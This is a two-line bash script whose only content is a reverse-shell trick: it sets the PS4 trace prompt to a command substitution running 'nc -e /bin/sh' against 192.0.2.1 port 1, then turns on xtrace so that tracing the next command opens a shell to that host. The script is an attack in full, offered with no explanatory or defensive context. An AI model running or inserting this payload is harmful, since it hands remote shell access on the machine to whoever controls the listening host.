#!/bin/bash
PS4='$(nc -e /bin/sh 192.0.2.1 1)'; set -x; true
